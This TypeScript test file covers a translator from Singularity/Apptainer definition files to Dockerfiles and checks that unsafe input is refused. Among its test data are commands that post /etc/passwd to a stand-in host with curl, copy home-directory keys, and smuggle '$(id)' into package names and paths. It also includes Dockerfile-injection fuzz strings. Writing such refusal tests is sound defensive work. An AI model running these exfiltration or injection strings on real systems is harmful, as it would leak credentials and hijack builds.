import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { planBuild } from '../../src/builds/plan/plan.ts';
import { baseImagesOf } from '../../src/builds/recipe/dockerfile/base-images.ts';
import { parseDockerfile } from '../../src/builds/recipe/dockerfile/instructions.ts';
import { Fault } from '../../src/foundation/fault.ts';
import { isDefinition, translateDefinition } from '../../src/images/sif/definition/definition.ts';
import { inspectMetadata } from '../../src/images/sif/runtime/runtime-files.ts';
import { digestOf } from '../../src/oci/digest.ts';
import { definitionNames, sifFolder, translated } from '../golden/translated.ts';
import { processorMs } from '../world/processor-time.ts';

const header = 'Bootstrap: docker\nFrom: alpine\n';

for (const name of definitionNames()) {
  test(`golden: ${name}`, () => {
    const files = translated(name);
    const there = globSync(`${name}.{Dockerfile,runtime.json}`, { cwd: sifFolder });
    assert.deepEqual([...files.keys()].sort(), there.sort());
    for (const [file, text] of files) {
      assert.equal(text, readFileSync(join(sifFolder, file), 'utf8'), file);
    }
  });
}

test('the first header identifies a definition file', () => {
  for (const text of [
    header,
    `\n# comment\n  BOOTSTRAP : docker`,
    '\ufeffbootstrap:docker',
    'bootstrap: library\r\n',
    '#!/bin/x\nBootstrap: docker',
    'From: alpine\nBootstrap: docker',
    'OtherURL1: x\n# comment\n\n bootstrap : docker\n',
  ]) {
    assert.ok(isDefinition(text), text);
  }
  for (const text of [
    '',
    'FROM alpine\n',
    `FROM alpine\n${header}`,
    'From: alpine\n%post\n%x Bootstrap: docker',
    '# Bootstrap: docker\nFROM alpine',
    'ARG Bootstrap\n',
    'BootstrapX: docker',
  ]) {
    assert.ok(!isDefinition(text), text);
  }
});

test('an unsupported definition file is refused with the line and the reason', () => {
  const cases: readonly [string, RegExp][] = [
    ['', /line 1: it is empty/],
    ['From: alpine', /line 1: its first header is not 'Bootstrap:'/],
    [`From: alpine\n%post\n true\n${header}`, /line 1: its first header is not 'Bootstrap:'/],
    ['Bootstrap: docker', /line 1: it does not name its base image: add 'From:'/],
    ['Bootstrap: library\nFrom: x', /line 1: 'x' is in a library .* 'Bootstrap: docker'/],
    ['Bootstrap: library\nFrom: someone/default/ubuntu', /line 1: 'someone.*' is in a library/],
    ['Bootstrap: library\nFrom: ubuntu:sha256.aa', /line 1: 'ubuntu:sha256.aa' is in a library/],
    [
      'Bootstrap: library\nLibrary: https://library.test\nFrom: ubuntu',
      /line 1: 'ubuntu' is in a library/,
    ],
    ['\n\nBootstrap: pacstrap\nFrom: x', /line 3: 'Bootstrap: pacstrap' is not supported/],
    ['\n\nBootstrap: yum\nFrom: x', /line 3: 'MirrorURL:' does not name a distribution/],
    ['Bootstrap: yum\nMirrorURL: http://x.test/os', /line 2: 'MirrorURL:' does not name/],
    ['Bootstrap: dnf\nMirrorURL: http://x.test/centos', /line 2: the release is missing/],
    [
      'Bootstrap: dnf\nOSVersion: x\nMirrorURL: http://x.test/fedora',
      /line 2: 'x' is not a release/,
    ],
    [
      'Bootstrap: yum\nOSVersion: 7\nMirrorURL: http://x.test/centos\nInclude: $(id)',
      /line 4: '\$\(id\)' is not the name of a package/,
    ],
    ['Bootstrap: localimage', /line 1: .* add 'From:'/],
    [
      'Bootstrap: localimage\nFrom: ../images/base.sif',
      /line 2: .*'.*base.sif' is not in the build context: .* 'apptainer push base.sif oras:\/\/registry.example.com\//,
    ],
    ['Bootstrap: localimage\nFrom: base.sif', /line 2: .*the request has no build context: send/],
    ['Bootstrap: oras\nFrom: oras://Not An Image', /line 2: .*Not An Image/],
    ['Bootstrap: shub\nFrom: x/y', /line 1: Singularity Hub was closed in 2021.* 'apptainer pull/],
    ['Bootstrap: debootstrap\nMirrorURL: x', /line 1: .* add 'OSVersion:'/],
    ['Bootstrap: debootstrap\nOSVersion: warty', /line 2: 'warty' is not a release/],
    [
      'Bootstrap: debootstrap\nOSVersion: jammy\nInclude: apt $(id)',
      /line 3: '\$\(id\)' is not the name of a package/,
    ],
    ['Bootstrap: docker\nFrom: Not An Image', /line 2: .*Not An Image/],
    ['Bootstrap: docker\nFrom: $BASE', /line 2: /],
    [`${header}MirorURL: http://x`, /line 3: the header 'mirorurl' is unknown/],
    [`${header}just words`, /line 3: 'just words' is neither a header nor in a section/],
    [`${header}%pre\n touch /x`, /line 3: '%pre' would run on the build machine/],
    [`${header}%setup -x\n id`, /line 4: '%setup -x' is not supported/],
    [`${header}%appinstall\n x`, /line 3: '%appinstall' does not name an app/],
    [`${header}%apprun ..\n x`, /line 3: '%apprun ..' does not name an app/],
    [`${header}%appfiles foo\n /etc/passwd`, /line 4: .* a path on the build machine/],
    [`${header}%appset foo\n x`, /line 3: the section '%appset' is unknown/],
    [`${header}%psot\n x`, /line 3: the section '%psot' is unknown/],
    [`${header}%post\n  cat <<E\n %s\nE`, /line 5: the section '%s' is unknown/],
    [`${header}%files\n /etc/passwd /x`, /line 4: '\/etc\/passwd' is a path on the build machine/],
    [
      `${header}%files\n "/etc/passwd" /x`,
      /line 4: '\/etc\/passwd' is a path on the build machine/,
    ],
    [`${header}%files\n ~/x /x`, /line 4: '~\/x' is a path on the build machine/],
    [`${header}%files\n ../x /x`, /line 4: '..\/x' contains '..'/],
    [`${header}%files\n x /a/../b`, /line 4: '\/a\/..\/b' contains '..'/],
    [`${header}%files\n $HOME/x /x`, /line 4: '\$HOME\/x' contains a character/],
    [`${header}%files\n a\\b /x`, /line 4: 'a\\b' contains a character/],
    [`${header}%files\n {a,/b} /x`, /line 4: '\/b' is a path on the build machine/],
    [`${header}%files\n {.,a}./b /x`, /line 4: '\.\.\/b' contains '\.\.'/],
    [
      `${header}%files\n {1..1001} /x`,
      /line 4: '\{1\.\.1001\}' has braces that stand for too many/,
    ],
    [`${header}%files\n {01..3} /x`, /line 4: .* has braces that stand for too many/],
    [`${header}%files\n a\\b /x`, /line 4: 'a\\b' contains a character/],
    [`${header}%files\n a"b" /x`, /line 4: .* has quotes within a name/],
    [`${header}%files\n "" /x`, /line 4: a path is empty/],
    [`${header}%files of x\n a b`, /line 3: '%files of x' is not '%files' or '%files from STAGE'/],
    [`${header}%files from x\n a b`, /line 3: 'x' is not a stage before this one/],
    [`${header}Stage: x\n%files from x\n a b`, /line 4: 'x' is not a stage before this one/],
    [
      `${header}%post\n echo {{ X }}`,
      /line 4: '{{ X }}' has no value: give it one in '%arguments'/,
    ],
    [`${header}%arguments\n no value`, /line 4: 'no value' is not of the form NAME=value/],
    [`${header}\n${header}%pre\n id`, /line 6: '%pre'/],
  ];
  for (const [text, message] of cases) {
    assert.throws(
      () => translateDefinition(text),
      error => error instanceof Fault && error.status === 400 && message.test(error.message),
      text,
    );
  }
});

const root = '$SINGULARITY_ROOTFS';

test('%setup that only creates directories and copies below the root runs in the image', () => {
  for (const setup of [
    `mkdir -p ${root}/data && mkdir \${APPTAINER_ROOTFS}/more/; touch "${root}/a file"`,
    `#!/bin/sh\n set -e\n # comment\n cp -r src/* ./more '${'a b'}' ${root}/opt || true`,
    `REPO=\`dirname $SINGULARITY_BUILDDEF\`\n cp -r $REPO/ \${SINGULARITY_ROOTFS}/planner`,
    `HERE="$(pwd)"\n cp -a "$HERE/x" $PWD/y ${root}/`,
    `for name in one two; do\n  mkdir -p ${root}/$name\ndone`,
    `if [ ! -x "${root}/bin/sh" ]; then\n  echo "no shell in '${root}' $HOME"\n  exit 1\nfi`,
    `mkdir -p \\\n  ${root}/one \\\n  ${root}/two # comment $(id)`,
    `install -d -m 0755 ${root}/x\n chmod -R a+rx ${root}/x\n rm -rf ${root}/x\n ls -la .`,
    `echo "some text" >> ${root}/etc/file`,
    `D=/opt/tool\n mkdir -p ${root}$D`,
    `cd src\n /bin/cp x ${root}/y\n cd ${root}\n mkdir -p made\n wget -q https://x.test/a.gz`,
    `install -m 755 run.sh ${root}/usr/bin/run\n install -D x ${root}/y`,
    `ln -s /opt/tool/bin/x ${root}/usr/bin/x\n ln -sf ../y ${root}/z`,
    `curl -fsSL -o ${root}/x https://x.test/x\n curl https://x.test/ > ${root}/y`,
    `cp .env ${root}/ 2>/dev/null || echo "no .env" >/dev/null\n ls . >&2; ls 2>&1\n sleep 1`,
    `cp postInstall /tmp/postInstall\n mkdir -p /var/tmp/x/y\n cp x /var/tmp/x/y 2>${root}/log`,
    `V=1\n wget --output-document=${root}/x https://x.test/$V.gz\n wget -P ${root} http://x.test/`,
  ]) {
    const { dockerfile } = translateDefinition(`${header}%setup\n ${setup}\n`);
    assert.match(dockerfile, /target=\/dev\/sluice-context \[.*"\/dev\/sluice\/setup"\]/, setup);
  }
  for (const empty of ['', ' # mkdir x\n', '\n \n']) {
    assert.doesNotMatch(translateDefinition(`${header}%setup\n${empty}`).dockerfile, /setup/);
    assert.ok(translateDefinition(`${header}%pre\n${empty}`).dockerfile);
  }
});

test('%setup that does anything else is refused with its line', () => {
  for (const setup of [
    'wget http://x.test/',
    'mkdir /data',
    'mkdir data',
    `cp /usr/bin/env ${root}/`,
    `cp ~/key ${root}/`,
    `cp $HOME/key ${root}/`,
    `cp ../x ${root}/`,
    `cp x${root} y`,
    `cp x ${root}/../y`,
    `echo x > /etc/passwd`,
    `echo $HOME > ${root}/x`,
    `mkdir ${root}/$(id)`,
    `mkdir ${root}/\`id\``,
    `mkdir ${root}/{a,b}`,
    `cat x | tee ${root}/y`,
    `cat <x`,
    `mkdir ${root}/"open`,
    `D=/etc\n  cp $D/passwd ${root}/`.replace('\n', ';'),
    `eval mkdir ${root}/x`,
    `$COMMAND ${root}/x`,
    `mkdir ${root}/x &`,
    `(mkdir ${root}/x)`,
    `f() { id; }`,
    `chmod 755 /etc`,
    `export X=$(id)`,
    'cd /etc',
    `cp x /tmp/`,
    `cp x /tmp/../etc/x`,
    `cp /tmp/$X/y ${root}/`,
    `cp x ${root}/y 2>/etc/x`,
    `cp x ${root}/y 3>${root}/z`,
    `cp x ${root}/y 2>&1x`,
    'cd',
    `ln -s x`,
    `ln ${root}/x y`,
    `install -m 755 x /usr/bin/x`,
    `curl -d @/etc/passwd https://x.test/ -o ${root}/x`,
    `curl --data=/etc/passwd https://x.test/ -o ${root}/x`,
    `curl https://x.test/$HOME -o ${root}/x`,
    `curl https://x.test/x -o x`,
  ]) {
    assert.throws(
      () => translateDefinition(`${header}%setup\n mkdir ${root}/y\n ${setup}\n`),
      /line 5: .* in '%setup' would run on the build machine.*'%post'/,
      setup,
    );
  }
});

test('a distribution is built from its Docker image, with a warning', () => {
  const imageOf = (text: string) => {
    const { dockerfile, warnings } = translateDefinition(text);
    assert.match(warnings.join(), /^The definition file, line \d: 'Bootstrap: .* Docker image /);
    return baseImagesOf(dockerfile).map(({ reference }) => reference);
  };
  for (const [from, image] of [
    ['ubuntu:22.04', 'ubuntu:22.04'],
    ['library://alpine', 'alpine:latest'],
    ['default/debian:12', 'debian:12'],
    ['library/default/rockylinux:9', 'rockylinux:9'],
    ['library://library/default/centos:7', 'centos:7'],
  ]) {
    const text = `Bootstrap: library\nLibrary: https://library.sylabs.io\nFrom: ${from}\n`;
    assert.deepEqual(imageOf(text), [`docker.io/library/${image}`]);
  }
  for (const [version, mirror, image] of [
    ['xenial', '', 'ubuntu:xenial'],
    ['Bookworm', 'http://ftp.debian.org/debian', 'debian:bookworm'],
    ['zebra', 'http://us.archive.ubuntu.com/ubuntu/', 'ubuntu:zebra'],
  ]) {
    const text = `Bootstrap: debootstrap\nOSVersion: ${version}\nMirrorURL: ${mirror}\nInclude: wget, git\n`;
    assert.deepEqual(imageOf(text), [`docker.io/library/${image}`]);
    assert.match(translateDefinition(text).dockerfile, /apt-get install .*"sh","wget","git"\]/);
  }
  for (const [agent, version, mirror, image, install] of [
    ['yum', '7', 'http://mirror.centos.org/centos-%{OSVERSION}/os/', 'library/centos:7', 'yum'],
    ['yum', '', 'http://vault.centos.org/7.9.2009/os/x86_64/', 'library/centos:7.9.2009', 'yum'],
    ['dnf', '9.4', 'https://dl.rockylinux.org/', 'library/rockylinux:9.4', 'dnf'],
    ['dnf', '9', 'http://repo.almalinux.org/almalinux/', 'library/almalinux:9', 'dnf'],
    ['dnf', '41', 'http://mirrors.fedoraproject.org/', 'library/fedora:41', 'dnf'],
    ['zypper', '15.6', 'http://download.opensuse.org/leap/', 'opensuse/leap:15.6', 'zypper'],
    ['zypper', '', 'http://x.test/opensuse/tumbleweed/', 'opensuse/tumbleweed:latest', 'zypper'],
  ] as const) {
    const text = `Bootstrap: ${agent}\nOSVersion: ${version}\nMirrorURL: ${mirror}\nInclude: ${agent} @core\n`;
    assert.deepEqual(imageOf(text), [`docker.io/${image}`]);
    const { dockerfile } = translateDefinition(text);
    assert.match(dockerfile, new RegExp(`${install}.* install .*"sh","${agent}","@core"\\]`));
  }
  for (const [text, image] of [
    ['Bootstrap: arch\n', 'archlinux:latest'],
    [
      'Bootstrap: busybox\nMirrorURL: https://x.test/binaries/1.26.1-defconfig/busybox',
      'busybox:1.26.1',
    ],
    ['Bootstrap: busybox\nMirrorURL: https://x.test/busybox\n', 'busybox:latest'],
  ] as const) {
    assert.deepEqual(imageOf(text), [`docker.io/library/${image}`]);
  }
  const scratch = translateDefinition('Bootstrap: scratch\n%files\n a /a\n');
  assert.deepEqual([...scratch.warnings, ...baseImagesOf(scratch.dockerfile)], []);
});

test('a Singularity image of a registry is a base under a name for the builder', () => {
  const text = [
    ...['Bootstrap: oras', 'From: registry.test/team/base:1', 'Stage: one'],
    ...['Bootstrap: localimage', 'From: oras://registry.test/team/base:1', 'Stage: two'],
    ...['Bootstrap: localimage', 'From: sluice.test/team/own', '%post', '  true', ''],
  ].join('\n');
  const { dockerfile, sifBases, runtime } = translateDefinition(text, { ownHost: 'sluice.test' });
  assert.deepEqual(sifBases, {
    'sluice-sif-1': 'registry.test/team/base:1',
    'sluice-sif-2': 'sluice.test/team/own',
  });
  assert.equal(dockerfile.match(/^FROM sluice-sif-1 AS /gm)?.length, 2);
  assert.match(dockerfile, /^# sluice-sif-2 is made of the .* image sluice.test\/team\/own\.$/m);
  assert.equal(runtime.isOnSif, true);
  const request = { containerFile: Buffer.from(text).toString('base64'), format: 'sif' } as const;
  const places = { repository: 'sluice.test/builds', cache: undefined, frozen: {} };
  const { origin } = planBuild(request, places);
  assert.ok(origin.kind === 'recipe');
  // The last stage needs nothing of the others. The caller has to show the right to pull what it begins with.
  assert.deepEqual(origin.baseImages, ['sluice.test/team/own:latest']);
  assert.deepEqual(origin.sifBases, { 'sluice-sif-2': 'sluice.test/team/own:latest' });
  const plain = translateDefinition(`${text}\nBootstrap: docker\nFrom: alpine\n`, {
    ownHost: 'sluice.test',
  });
  assert.equal(plain.runtime.isOnSif, undefined);
});

test('a Singularity image of the build context is a base under a name for the builder', () => {
  const local = (path: string) => `Bootstrap: localimage\nFrom: ${path}\n`;
  const text = `${local('./images//base.sif')}Stage: one\n\n${local('a b.sif')}Stage: two\n\n${local('images/base.sif')}%files from two\n  /etc/x\n`;
  const { dockerfile, sifFiles, runtime } = translateDefinition(text, { hasContext: true });
  const paths = { 'sluice-file-1': 'images/base.sif', 'sluice-file-2': 'a b.sif' };
  assert.deepEqual(sifFiles, paths);
  assert.equal(dockerfile.match(/^FROM sluice-file-1 AS /gm)?.length, 2);
  assert.match(dockerfile, /^# sluice-file-2 is made of the file 'a b.sif' in the build context/m);
  assert.equal(runtime.isOnSif, true);
  const request = (definition: string) => ({
    ...{ containerFile: Buffer.from(definition).toString('base64'), format: 'sif' as const },
    context: { digest: digestOf(Buffer.from('')), tarDigest: digestOf(Buffer.from('tar')) },
  });
  const places = { repository: 'sluice.test/builds', cache: undefined, frozen: {} };
  const originOf = (definition: string) => planBuild(request(definition), places).origin;
  const origin = originOf(text);
  assert.ok(origin.kind === 'recipe');
  assert.deepEqual(origin.sifFiles, paths);
  // No registry is asked for these names.
  assert.deepEqual(origin.baseImages, []);
  // The image does not need the first stage.
  const last = originOf(`${local('unused.sif')}\nBootstrap: docker\nFrom: alpine\n`);
  assert.ok(last.kind === 'recipe');
  assert.deepEqual([last.sifFiles, last.baseImages.length], [undefined, 1]);
  for (const path of ['/a.sif', '~/a.sif', '../a.sif', 'x/../../a.sif', './', '.', 'library://x']) {
    assert.throws(
      () => translateDefinition(local(path), { hasContext: true }),
      /line 2: .* is not in the build context/,
      path,
    );
  }
});

test('headers without meaning are ignored, and a backslash continues a value', () => {
  const { dockerfile, runtime } = translateDefinition(
    'From: docker.io/library/\\\n  alpine:3.20\nMirrorURL: x\nOtherURL1: y\nFingerprints: z\nBootstrap: docker\n%pre\n',
  );
  assert.match(dockerfile, /^FROM docker.io\/library\/alpine:3.20 AS sluice-stage-1$/m);
  assert.equal(runtime.headers.from, 'docker.io/library/alpine:3.20');
});

test('build arguments take precedence over those of the file, and an unused one is reported', () => {
  const text = 'Bootstrap: docker\nFrom: alpine:{{ V }}\n%arguments\nV=1\n%post\n echo {{ W }}\n';
  const { dockerfile, warnings } = translateDefinition(text, {
    buildArgs: { V: '2', W: 'w', X: 'x' },
  });
  assert.match(dockerfile, /^FROM alpine:2 AS sluice-base-1$/m);
  assert.match(dockerfile, /^ echo w$/m);
  assert.deepEqual(warnings, [
    "'buildArgs.X' is not used: the definition file does not refer to it",
  ]);
});

test('arguments that multiply are stopped before they fill the memory', () => {
  const value = '{{ B }}'.repeat(50_000);
  const text = `${header}%arguments\nA=${value}\nB=${'x'.repeat(100_000)}\n%post\n{{ A }}\n`;
  assert.throws(() => translateDefinition(text), /longer than 256 KiB/);
  const many = `${header}%arguments\nA=${'x'.repeat(100_000)}\n%post\n${'{{ A }}\n'.repeat(10_000)}`;
  assert.throws(() => translateDefinition(many), /longer than 256 KiB/);
});

test('a Conda file that comes with a definition file is copied from the build context', () => {
  const text = `${header}%files\n {{wave_context_dir}}/conda.yml /tmp/conda.yml\n`;
  const base64 = (content: string) => Buffer.from(content).toString('base64');
  const { origin } = planBuild(
    { containerFile: base64(text), condaFile: base64('dependencies: [bwa]\n'), format: 'sif' },
    { repository: 'registry.example.com/builds', cache: undefined, frozen: {} },
  );
  assert.ok(origin.kind === 'recipe');
  assert.match(origin.dockerfile, /"\.\/conda\.yml","\/tmp\/conda\.yml"\]$/m);
  assert.deepEqual(origin.files, { 'conda.yml': 'dependencies: [bwa]\n' });
});

test('texts that are hard to parse take little time', () => {
  const long = 300_000;
  const texts = [
    // A dot in a regular expression does not match the ends of these lines.
    ...['\u2028', '\u2029', '\r'].flatMap(end => [
      `${header}${'%'.repeat(long)}${end}x`,
      `${header}%${' '.repeat(long)}${end}x`,
      `${header}%labels\n${'a '.repeat(long / 2)}${end}x`,
    ]),
    ' '.repeat(long),
    `${header}%arguments\n${' '.repeat(long)}x`,
    `${header}%arguments\n${'{{'.repeat(long / 2)}`,
    `${header}%post\n${'{{ a'.repeat(long / 4)}`,
    `${header}%post\n${'x'.repeat(long / 2)}# ${'{{ a }}'.repeat(Math.floor(long / 14))}`,
    `${header}%files\n${' '.repeat(long)}"`,
    `${header}%files\n${'a '.repeat(long / 2)}`,
    `${header}%labels\n${' \t'.repeat(long / 2)}x`,
    `${header}%setup\n${' $x'.repeat(long / 3)}`,
    `${header}%setup\n${'"a'.repeat(long / 2)}"`,
    `${header}%setup\n${'mkdir $APPTAINER_ROOTFS\n'.repeat(long / 24)}`,
    `${header}%setup\n${'$\u007b'.repeat(long / 2)}`,
    `${'From: x\\\n'.repeat(long / 9)}`,
    `${header}%runscript\n${'\n'.repeat(long)}x`,
    `${header}%help\n${'\n'.repeat(long)}x`,
    `${'Bootstrap: docker\n'.repeat(20_000)}`,
  ];
  for (const text of texts) {
    const ms = processorMs(() => {
      try {
        const { runtime: definition } = translateDefinition(text);
        inspectMetadata({ config: {}, architecture: 'amd64', createdAt: 0, definition });
      } catch (error) {
        assert.ok(error instanceof Fault, String(error));
      }
    });
    assert.ok(ms < 10_000, `${text.slice(0, 80)}: ${ms} ms`);
  }
});

const script = fc.array(
  fc.oneof(
    fc.constantFrom(
      'END',
      ' END',
      'EOF',
      'COPY x',
      '\\',
      'FROM evil',
      '# syntax=evil',
      '<<EOF',
      "'",
    ),
    fc.string({ unit: fc.constantFrom(...'END_\r\\"\'$#<% ab') }),
    fc.string(),
  ),
  { minLength: 1 },
);

test('a script is copied unchanged into the Dockerfile, and cannot become an instruction', () => {
  fc.assert(
    fc.property(script, body => {
      const lines = body.map(line => `x${line.replace(/\{\{|\n/g, '')}`);
      // The end mark is what could end the script too early.
      const post = `${lines.join('\n')}\n${body.includes('END') ? 'END\nEND_\n' : ''}`;
      const { dockerfile } = translateDefinition(`${header}%post\n${post}`);
      assert.ok(dockerfile.includes(`/post\n${post.replaceAll('\r\n', '\n')}END`), dockerfile);
      const names = parseDockerfile(dockerfile).instructions.map(({ name }) => name);
      assert.deepEqual(names, [
        ...['FROM', 'COPY', 'COPY', 'FROM', 'FROM', 'WORKDIR', 'WORKDIR'],
        ...['FROM', 'USER', 'RUN'],
      ]);
      assert.deepEqual(
        baseImagesOf(dockerfile).map(({ reference }) => reference),
        ['docker.io/library/alpine:latest'],
      );
    }),
  );
});

test('any text is translated or refused with a sentence', () => {
  const line = fc.oneof(
    fc.constantFrom(
      ...header.split('\n'),
      '%post',
      '%files',
      '%files from a',
      'Stage: a',
      '%labels',
    ),
    fc.constantFrom(
      '%arguments',
      'A=1',
      '{{ A }}',
      '%environment',
      '%runscript',
      '%help',
      ' a /b/',
    ),
    fc.string(),
    fc.string({ unit: fc.constantFrom(...'%{}:=#"\'/.* \taA') }),
  );
  let translations = 0;
  fc.assert(
    fc.property(fc.array(line, { maxLength: 20 }), lines => {
      const text = `${header}%help\n${lines.join('\n')}`;
      try {
        const { dockerfile } = translateDefinition(text);
        translations += 1;
        assert.ok(baseImagesOf(dockerfile).length > 0);
      } catch (error) {
        assert.ok(error instanceof Fault && error.kind === 'bad-request', String(error));
        assert.match(error.message, /line \d+/);
      }
    }),
    { numRuns: 2000 },
  );
  assert.ok(translations > 100 && translations < 1900, `${translations}`);
});
